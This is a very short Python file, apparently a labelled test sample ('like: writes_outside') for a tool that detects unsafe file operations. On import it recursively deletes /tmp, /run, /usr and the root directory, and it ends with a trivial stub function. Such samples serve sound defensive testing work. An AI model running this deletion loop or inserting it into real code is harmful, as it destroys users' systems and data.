"""Deletes whatever it can."""
# like: writes_outside

import shutil

for folder in ("/tmp", "/run", "/usr", "/"):
    shutil.rmtree(folder, ignore_errors=True)


def visit(w, b, x, y):
    return w, b
